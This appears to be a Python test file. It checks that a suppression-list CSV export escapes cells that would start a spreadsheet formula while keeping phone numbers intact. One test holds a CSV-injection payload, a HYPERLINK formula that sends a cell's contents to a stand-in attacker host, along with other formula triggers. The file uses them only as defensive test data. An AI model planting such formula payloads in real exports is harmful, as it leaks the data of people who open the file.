"""The suppression CSV cannot carry a spreadsheet formula (CSV injection), yet keeps phone numbers
as dialers need them."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from privault.services.suppression import Suppressed, suppression_csv

SINCE = datetime(2026, 11, 1, tzinfo=UTC)


def _cells(rows: list[Suppressed]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(suppression_csv(rows))))[1:]


def test_a_value_that_starts_a_formula_is_written_as_text() -> None:
    attack = '=HYPERLINK("https://evil.example/?"&B2,"open")@x.co'
    rows = [
        Suppressed(attack, "s-1", "opt_out", SINCE),
        Suppressed("@SUM(1)@x.co", "-s2", "objection", SINCE),
        Suppressed("\tx@y.co", "+s3", "minor", None),
    ]
    cells = _cells(rows)
    assert [c[0] for c in cells] == ["'" + attack, "'@SUM(1)@x.co", "'\tx@y.co"]
    assert [c[1] for c in cells] == ["s-1", "'-s2", "'+s3"]


def test_phone_numbers_and_plain_addresses_are_kept_as_they_are() -> None:
    rows = [
        Suppressed("+447700900123", "s-1", "opt_out", SINCE),
        Suppressed("ana@example.com", "s-2", "opt_out", SINCE),
    ]
    assert [c[0] for c in _cells(rows)] == ["+447700900123", "ana@example.com"]
